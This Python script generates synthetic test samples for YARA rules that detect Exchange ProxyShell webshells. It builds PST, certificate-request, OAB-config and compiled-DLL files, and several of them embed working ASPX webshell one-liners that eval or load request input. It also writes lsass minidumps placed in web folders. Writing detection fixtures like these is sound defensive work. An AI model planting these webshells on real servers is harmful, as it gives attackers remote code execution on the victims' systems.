#!/usr/bin/env python3
"""Writes the binary test samples of exhunt's YARA rules.

PST, DER, PE (App_Web_*.dll), minidump and UTF-8/UTF-16 pages, each under
8 KB, with `.txt` appended to the real name (see rules/README.md):

  rules/yara-tests/<rule id>/{match,nomatch}/...   per-rule samples
  crates/yara/tests/data/benign-pages/...          the benign set

They are synthetic: made here from the file formats' published headers, not
taken from any server. Filler bytes come from a fixed-seed generator, so the
output is the same on every run, except the certificate and certificate
request, which are signed with a fresh RSA key each time (python3 with the
`cryptography` package). Run from the repository root:

  python3 scripts/make-yara-binary-samples.py
"""

import datetime
import os
import random
import struct
import sys
import warnings

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
TESTS = os.path.join(ROOT, "rules", "yara-tests")
BENIGN = os.path.join(ROOT, "crates", "yara", "tests", "data", "benign-pages")

MAX = 8 * 1024


def write(path, data):
    assert len(data) <= MAX, (path, len(data))
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


def sample(rule, outcome, rel, data):
    write(os.path.join(TESTS, rule, outcome, rel + ".txt"), data)


def benign(rel, data):
    write(os.path.join(BENIGN, rel + ".txt"), data)


def filler(seed, n):
    r = random.Random(seed)
    return bytes(r.getrandbits(8) for _ in range(n))


# --------------------------------------------------------------------------
# PST (Outlook personal folders). Header per [MS-PST] 2.2.2.6: dwMagic
# "!BDN", dwCRCPartial, wMagicClient "SM", wVer 23 (Unicode), wVerClient 19,
# bPlatformCreate/Access 1, ... bCryptMethod at 0x201 (0 none, 1 permute).
# --------------------------------------------------------------------------

def pst(seed, crypt, blocks):
    hdr = bytearray(b"!BDN")
    hdr += struct.pack("<I", random.Random(seed).getrandbits(32))  # dwCRCPartial
    hdr += b"SM" + struct.pack("<HHBB", 23, 19, 1, 1)
    hdr += b"\x00" * 8  # dwReserved1, dwReserved2
    hdr += struct.pack("<QQ", 0x1000, 0x400)  # bidUnused, bidNextP
    hdr += struct.pack("<I", 0x1A2B3C4D)  # dwUnique
    hdr += filler(seed + 1, 0x200 - len(hdr))
    hdr += b"\x80" + bytes([crypt]) + b"\x00\x00"  # fAMapValid, bCryptMethod
    hdr += filler(seed + 2, 0x240 - len(hdr))
    out = bytes(hdr)
    for i, b in enumerate(blocks):
        out += filler(seed + 10 + i, 0x180) + b
    return out + filler(seed + 99, 0x200)


SHELL_JS = (b'<script language="JScript" runat="server">function Page_Load()'
            b'{eval(Request["exec_code"],"unsafe");}</script>')
SHELL_CS = (b'<%@ Page Language="C#" %><%System.Reflection.Assembly.Load('
            b'System.Convert.FromBase64String(Request["gold8899"])).CreateInstance("L")'
            b'.Equals(this);%>')

mail_plain = (
    "From: IT Service Desk <servicedesk@contoso.com>\r\n"
    "Subject: Planned maintenance Saturday 22:00\r\n\r\n"
    "Dear colleagues, Outlook on the web will be unavailable on Saturday "
    "between 22:00 and 23:30 while we install the Exchange security update.\r\n"
).encode("utf-16-le")

newsletter_html = (
    b"<html><head><meta charset=\"utf-8\"><title>Contoso News</title>"
    b"<script type=\"text/javascript\">function track(){var i=new Image();"
    b"i.src='https://news.contoso.com/t.gif?id=4711';}</script></head>"
    b"<body onload=\"track()\"><h1>Contoso News - March</h1><p>The new canteen "
    b"opens on Monday. <a href=\"https://intranet.contoso.com/canteen\">Menu</a>"
    b"</p></body></html>"
)

# ProxyShell mailbox export: the attacker's mail attachment was encoded so
# that PST's permutation turns it back into plain script text on disk.
pst_js = pst(1, 1, [SHELL_JS])
pst_cs = pst(2, 1, [SHELL_CS])
sample("webshell-mailbox-export", "match", "570221043.aspx", pst_js)
sample("webshell-mailbox-export", "match", "luifdecggoqmansn.aspx", pst_cs)
sample("webshell-aspx-binary-start", "match", "689193944.aspx", pst_js)

pst_plain = pst(3, 1, [filler(30, 0x300), filler(31, 0x200)])
pst_news = pst(4, 0, [mail_plain, newsletter_html])
for rule in ("webshell-mailbox-export", "webshell-aspx-binary-start"):
    sample(rule, "nomatch", "backup-2020.pst", pst_plain)
sample("webshell-mailbox-export", "nomatch", "newsletter-archive.pst", pst_news)
benign("backup-2020.pst", pst_plain)
benign("newsletter-archive.pst", pst_news)

# --------------------------------------------------------------------------
# DER: a certificate request whose subject carries the page (ProxyShell's
# New-ExchangeCertificate -GenerateRequest -BinaryEncoded -RequestFile
# ...\aspnet_client\x.aspx), and an ordinary certificate and request.
# --------------------------------------------------------------------------

try:
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import rsa
    from cryptography.x509.oid import NameOID
except ImportError:
    sys.exit("needs the python3 'cryptography' package")

key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
DER = serialization.Encoding.DER


def csr(cn, extra=()):
    # A script in the subject is longer than the 64 characters X.520 allows
    # a common name; New-ExchangeCertificate writes it all the same.
    warnings.filterwarnings("ignore", message="Attribute's length")
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn, _validate=False), *extra])
    return x509.CertificateSigningRequestBuilder().subject_name(name).sign(key, hashes.SHA256())


shell_csr = csr(SHELL_JS.decode().replace('"exec_code"', '"orangenb"')).public_bytes(DER)
shell_csr_page = csr('<%@ Page Language="Jscript"%><%eval(Request.Item["k"],"unsafe");%>').public_bytes(DER)
sample("webshell-certificate-request", "match", "aspnet_client/xx.aspx", shell_csr)
sample("webshell-certificate-request", "match", "errorcheck.aspx", shell_csr_page)
sample("webshell-aspx-binary-start", "match", "shell.aspx", shell_csr)

org = [
    x509.NameAttribute(NameOID.ORGANIZATION_NAME, "Contoso Ltd"),
    x509.NameAttribute(NameOID.LOCALITY_NAME, "Paris"),
    x509.NameAttribute(NameOID.COUNTRY_NAME, "FR"),
]
plain_csr = csr("mail.contoso.com", org)
san = x509.SubjectAlternativeName([
    x509.DNSName("mail.contoso.com"),
    x509.DNSName("autodiscover.contoso.com"),
])
now = datetime.datetime(2021, 1, 4, 9, 0, 0, tzinfo=datetime.timezone.utc)
cert = (
    x509.CertificateBuilder()
    .subject_name(plain_csr.subject)
    .issuer_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Contoso Issuing CA 01"),
                            x509.NameAttribute(NameOID.DOMAIN_COMPONENT, "contoso"),
                            x509.NameAttribute(NameOID.DOMAIN_COMPONENT, "com")]))
    .public_key(key.public_key())
    .serial_number(0x1F00000A2B3C4D5E6F)
    .not_valid_before(now)
    .not_valid_after(now + datetime.timedelta(days=730))
    .add_extension(san, critical=False)
    .add_extension(x509.ExtendedKeyUsage([x509.oid.ExtendedKeyUsageOID.SERVER_AUTH]), critical=False)
    .sign(key, hashes.SHA256())
)
cer = cert.public_bytes(DER)
req = plain_csr.public_bytes(DER)
benign("mail.contoso.com.cer", cer)
benign("mail.contoso.com.req", req)
sample("webshell-certificate-request", "nomatch", "mail.contoso.com.cer", cer)
sample("webshell-certificate-request", "nomatch", "mail.contoso.com.req", req)
# An exported certificate somebody saved with a page's name: DER, no script.
sample("webshell-aspx-binary-start", "nomatch", "certnew.aspx", cer)

# --------------------------------------------------------------------------
# Pages in UTF-8 and UTF-16 with byte-order marks (text, not drops).
# --------------------------------------------------------------------------

bom_page = """<%@ Page Language="C#" AutoEventWireup="true" ResponseEncoding="utf-8" %>
<!DOCTYPE html>
<html lang="de">
<head runat="server">
    <meta charset="utf-8" />
    <title>Wartungsfenster – Outlook im Web</title>
</head>
<body>
    <form id="form1" runat="server">
        <h1>Geplante Wartung</h1>
        <p>Am Samstag zwischen 22:00 und 23:30 Uhr ist Outlook im Web wegen eines
        Sicherheitsupdates nicht erreichbar. Für Rückfragen: Tel. 1234 (Servicedesk).</p>
        <p>Nächster Termin: <asp:Label ID="NextWindow" runat="server" /></p>
    </form>
    <script runat="server">
        protected void Page_Load(object sender, EventArgs e)
        {
            NextWindow.Text = DateTime.Today.AddDays(6 - (int)DateTime.Today.DayOfWeek).ToString("dddd, d. MMMM yyyy", new System.Globalization.CultureInfo("de-DE"));
        }
    </script>
</body>
</html>
"""
utf8 = b"\xef\xbb\xbf" + bom_page.encode("utf-8")
utf16 = b"\xff\xfe" + bom_page.replace("lang=\"de\"", "lang=\"de\" dir=\"ltr\"").encode("utf-16-le")
benign("wartung.aspx", utf8)
benign("wartung-utf16.aspx", utf16)
sample("webshell-aspx-binary-start", "nomatch", "wartung.aspx", utf8)
sample("webshell-aspx-binary-start", "nomatch", "wartung-utf16.aspx", utf16)

# An .aspx truncated by a failed copy (zeros): binary start, no page code.
sample("webshell-aspx-binary-start", "nomatch", "iisstart.aspx", b"\x00" * 2048)
# A page behind a binary prefix that no export writes but a dropper might.
sample("webshell-aspx-binary-start", "match", "aspnet_iisstart.aspx",
       b"\x89PNG\r\n\x1a\n" + filler(40, 200) +
       b'\r\n<%@ Page Language="C#" %><% if (Request["k"] != null) { Response.Write(DateTime.Now); } %>')

# --------------------------------------------------------------------------
# OAB virtual-directory settings exported as UTF-16LE text (the keys are
# looked for in both encodings).
# --------------------------------------------------------------------------

oab_wide = "\r\n".join([
    "",
    "Name                            : OAB (Default Web Site)",
    "PollInterval                    : 480",
    "RequireSSL                      : False",
    "Path                            : C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB",
    "ExtendedProtectionTokenChecking : None",
    "Server                          : EX03",
    "InternalUrl                     : https://ex03.corp.contoso.com/OAB",
    "InternalAuthenticationMethods   : WindowsIntegrated",
    'ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["cmd"],"unsafe");}</script>',
    "ExternalAuthenticationMethods   : WindowsIntegrated",
    "Identity                        : EX03\\OAB (Default Web Site)",
    "",
])
sample("webshell-oab-config", "match", "OutlookEN.aspx", b"\xff\xfe" + oab_wide.encode("utf-16-le"))

# --------------------------------------------------------------------------
# ASP.NET compiled pages (Temporary ASP.NET Files\root\<hash>\<hash>\
# App_Web_*.dll): a small PE32 with a CLR metadata root ("BSJB") whose
# #Strings heap names the members used and whose #US heap (UTF-16) holds the
# page's app-relative virtual path.
# --------------------------------------------------------------------------

def pe(seed, type_name, vpath, members, user_strings):
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    struct.pack_into("<H", dos, 0x02, 0x90)
    struct.pack_into("<H", dos, 0x04, 3)
    struct.pack_into("<H", dos, 0x08, 4)
    struct.pack_into("<H", dos, 0x0C, 0xFFFF)
    struct.pack_into("<H", dos, 0x10, 0xB8)
    struct.pack_into("<H", dos, 0x18, 0x40)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    dos[0x40:0x40 + len(stub)] = stub
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 3, 0x60F1A2B3, 0, 0, 0xE0, 0x2102)
    opt = bytearray(0xE0)
    struct.pack_into("<HBB", opt, 0, 0x10B, 11, 0)
    struct.pack_into("<III", opt, 4, 0x1000, 0x800, 0)
    struct.pack_into("<III", opt, 16, 0x2000, 0x2000, 0x4000)
    struct.pack_into("<III", opt, 28, 0x10000000, 0x2000, 0x200)
    struct.pack_into("<HH", opt, 64, 3, 0x8540)  # subsystem console, dll characteristics
    struct.pack_into("<I", opt, 92, 16)
    struct.pack_into("<II", opt, 96 + 14 * 8, 0x2008, 0x48)  # CLR runtime header
    sections = b""
    for name, va, size, raw in ((b".text", 0x2000, 0x1000, 0x200), (b".rsrc", 0x4000, 0x200, 0x1200),
                                (b".reloc", 0x6000, 0x10, 0x1400)):
        sections += name.ljust(8, b"\x00") + struct.pack("<IIIIIIHHI", size, va, size, raw, 0, 0, 0, 0, 0x60000020)
    head = bytes(dos) + coff + bytes(opt) + sections
    head = head.ljust(0x200, b"\x00")
    strings = b"\x00<Module>\x00" + b"\x00".join(m.encode() for m in members) + b"\x00"
    us = b"\x00"
    for s in user_strings + [vpath]:
        enc = s.encode("utf-16-le")
        us += bytes([len(enc) + 1]) + enc + b"\x00"
    meta = (b"BSJB" + struct.pack("<HHII", 1, 1, 0, 12) + b"v4.0.30319\x00\x00" +
            struct.pack("<HH", 0, 5) + b"#~\x00\x00#Strings\x00\x00\x00\x00#US\x00#GUID\x00\x00\x00#Blob\x00\x00\x00")
    text = filler(seed, 0x48) + meta + filler(seed + 1, 0x40) + strings + us
    text += filler(seed + 2, 0x10) + type_name.encode() + b"\x00"
    return head + text.ljust(0x1000, b"\x00") + filler(seed + 3, 0x200) + b"\x00" * 0x10


COMMON = ["mscorlib", "System.Web", "System", "Object", "Page", "IHttpHandler", "FrameworkInitialize",
          "ProcessRequest", "GetTypeHashCode", "get_SupportAutoEvents", "__BuildControlTree",
          "HtmlTextWriter", "RenderControl", "AddParsedSubObject", "LiteralControl",
          "System.Runtime.CompilerServices", "CompilationRelaxationsAttribute", "DebuggableAttribute",
          "set_AppRelativeVirtualPath", "get_Request", "HttpRequest", "get_Response", "HttpResponse",
          "Write", "get_Item"]

chopper_dll = pe(50, "ASP.discover_aspx", "~/aspnet_client/discover.aspx",
                 COMMON + ["Microsoft.JScript", "Microsoft.JScript.Vsa", "VsaEngine", "CreateEngine",
                           "Eval", "JScriptEvaluate", "Page_Load", "App_Web_zbxfwqjn"],
                 ["unsafe", "k"])
auth_eval_dll = pe(51, "ASP.auth_shel90_aspx", "~/auth/shel90.aspx",
                   COMMON + ["Microsoft.JScript", "Eval", "JScriptEvaluate", "Page_Load", "App_Web_ts1xz7ke"],
                   ["unsafe", "orange"])
auth_upload_dll = pe(52, "ASP.auth_current_one1_aspx", "~/auth/Current/one1.aspx",
                     COMMON + ["get_Files", "HttpFileCollection", "get_Count", "HttpPostedFile", "SaveAs",
                               "get_Server", "HttpServerUtility", "MapPath", "get_FileName", "Page_Load"],
                     ["./"])
sample("webshell-compiled-dll", "match", "App_Web_zbxfwqjn.dll", chopper_dll)
sample("webshell-compiled-dll", "match", "App_Web_ts1xz7ke.dll", auth_eval_dll)
sample("webshell-compiled-dll", "match", "App_Web_one1.aspx.cdcab7d2.pq2wr4ka.dll", auth_upload_dll)

owa_default_dll = pe(60, "ASP.owa_default_aspx", "~/owa/default.aspx",
                     COMMON + ["get_QueryString", "Redirect", "App_Web_k2pqz1rd"], [])
owa_logon_dll = pe(61, "ASP.auth_logon_aspx", "~/auth/logon.aspx",
                   COMMON + ["Microsoft.Exchange.HttpProxy", "Logon", "get_Server", "HtmlEncode",
                             "LocalizedStrings", "GetHtmlEncoded", "Microsoft.Exchange.Clients",
                             "InlineImageOrResourceUrl", "InlineCss", "get_IsRtl", "App_Web_logon.aspx.cdcab7d2"],
                   ["username", "password", "/owa/auth.owa"])
benign("App_Web_k2pqz1rd.dll", owa_default_dll)
benign("App_Web_logon.aspx.cdcab7d2.x3f8k2lq.dll", owa_logon_dll)
sample("webshell-compiled-dll", "nomatch", "App_Web_k2pqz1rd.dll", owa_default_dll)
sample("webshell-compiled-dll", "nomatch", "App_Web_logon.aspx.cdcab7d2.x3f8k2lq.dll", owa_logon_dll)
# A shell's compiled page copied out under another name: the rule is about
# App_Web_*.dll in the ASP.NET temporary folder only.
sample("webshell-compiled-dll", "nomatch", "evidence-copy.bin", chopper_dll)

# --------------------------------------------------------------------------
# Minidumps: header per minidumpapiset.h (Signature "MDMP", Version 0xA793,
# NumberOfStreams, StreamDirectoryRva, CheckSum, TimeDateStamp, Flags) and a
# module list (stream 4) whose names are UTF-16 MINIDUMP_STRINGs.
# --------------------------------------------------------------------------

def mdmp(seed, modules):
    names = b""
    name_rvas = []
    base = 0x200
    for m in modules:
        enc = m.encode("utf-16-le")
        name_rvas.append(base + len(names))
        names += struct.pack("<I", len(enc)) + enc + b"\x00\x00"
    mod_list = struct.pack("<I", len(modules))
    for i, rva in enumerate(name_rvas):
        entry = struct.pack("<QIII", 0x7FF800000000 + i * 0x100000, 0x80000, 0, 0x5E1A2B3C) + struct.pack("<I", rva)
        mod_list += entry.ljust(108, b"\x00")
    mod_rva = base + len(names)
    hdr = b"MDMP" + struct.pack("<IIIIIQ", 0xA793, 3, 0x20, 0, 0x60412C35, 0x61826)
    dirs = struct.pack("<III", 4, len(mod_list), mod_rva)  # ModuleListStream
    dirs += struct.pack("<III", 7, 56, 0x100)               # SystemInfoStream
    dirs += struct.pack("<III", 15, 16, 0x140)              # MiscInfoStream
    out = (hdr + dirs).ljust(0x100, b"\x00")
    out += struct.pack("<HHHBB", 9, 6, 0x5507, 8, 1).ljust(0x40, b"\x00")  # x64, 8 CPUs, server
    out = out.ljust(base, b"\x00") + names + mod_list
    return out + filler(seed, 0x1000)


lsass = mdmp(70, ["C:\\Windows\\System32\\lsass.exe", "C:\\Windows\\SYSTEM32\\ntdll.dll",
                  "C:\\Windows\\System32\\KERNEL32.DLL", "C:\\Windows\\system32\\lsasrv.dll",
                  "C:\\Windows\\system32\\msv1_0.DLL", "C:\\Windows\\system32\\kerberos.DLL"])
w3wp = mdmp(71, ["c:\\windows\\system32\\inetsrv\\w3wp.exe", "C:\\Windows\\SYSTEM32\\ntdll.dll",
                 "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll"])
edge = mdmp(72, ["C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\EdgeTransport.exe",
                 "C:\\Windows\\SYSTEM32\\ntdll.dll", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll"])
R = "memory-dump-web-folder"
sample(R, "match", "inetpub/wwwroot/aspnet_client/system_web/lsass.dmp", lsass)
sample(R, "match", "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/Current/themes/resources/1.css", lsass)
sample(R, "match", "FrontEnd/HttpProxy/ecp/auth/w3wp.dmp", w3wp)
sample(R, "match", "ClientAccess/ecp/debug.bin", lsass)
sample(R, "nomatch", "Windows/Temp/x.dmp", lsass)
sample(R, "nomatch", "ProgramData/Microsoft/Windows/WER/ReportArchive/AppCrash_w3wp.exe_4d1c2e/memory.hdmp", w3wp)
sample(R, "nomatch", "inetpub/wwwroot/aspnet_client/readme.dmp", b"Minidump placeholder: the crash-dump tool was not installed.\r\n")
benign("Windows/Temp/x.dmp", edge)
benign("ProgramData/Microsoft/Windows/WER/ReportArchive/AppCrash_w3wp.exe_4d1c2e/memory.hdmp", w3wp)

print("binary samples written")
